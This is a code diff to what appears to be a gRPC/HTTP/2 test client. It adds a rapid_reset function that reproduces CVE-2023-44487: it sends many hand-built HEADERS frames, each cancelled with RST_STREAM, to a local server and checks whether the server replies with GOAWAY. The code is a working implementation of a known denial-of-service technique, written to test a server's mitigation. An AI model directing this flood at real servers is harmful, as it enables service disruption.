@@ -14,8 +14,10 @@ from dataclasses import dataclass, field
 
 import h2.config
 import h2.connection
+import h2.errors
 import h2.events
 import h2.settings
+import hpack
 
 
 def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
@@ -140,3 +142,37 @@ def call(port: int, path: str, body: bytes, extra: list[tuple[str, str]] = (), t
         conn.close()
     answer.seconds = time.monotonic() - t0
     return answer
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def rapid_reset(port: int, path: str, streams: int, timeout_s: float = 20.0) -> bool:
+    """CVE-2023-44487's pattern: `streams` HEADERS each followed by RST_STREAM(CANCEL), built by hand
+    (one literal header block, never indexed, so every stream reuses it) and written at once, then a
+    PING: its ACK says the server has read them all. True when the server sent GOAWAY instead."""
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", f"127.0.0.1:{port}"),
+               ("content-type", "application/grpc"), ("te", "trailers")]
+    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers])
+    cancel = struct.pack(">I", h2.errors.ErrorCodes.CANCEL)
+    attack = b"".join(_frame(1, 0x4, sid, block) + _frame(3, 0, sid, cancel) for sid in range(1, 2 * streams, 2))
+    marker = b"rr-done!"
+    with socket.create_connection(("127.0.0.1", port), timeout=timeout_s) as sock:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + attack + _frame(6, 0, 0, marker))
+        buf, deadline = b"", time.monotonic() + timeout_s
+        while time.monotonic() < deadline:
+            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
+                size, kind, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
+                payload, buf = buf[9:9 + size], buf[9 + size:]
+                if kind == 7:  # GOAWAY
+                    return True
+                if kind == 6 and flags & 1 and payload == marker:
+                    return False
+                if kind == 4 and not flags & 1:
+                    sock.sendall(_frame(4, 1, 0))  # ACK its SETTINGS, as a client must
+            data = sock.recv(1 << 16)
+            if not data:
+                return False
+            buf += data
+    raise TimeoutError(f"no PING ACK within {timeout_s} s of {streams} reset streams")
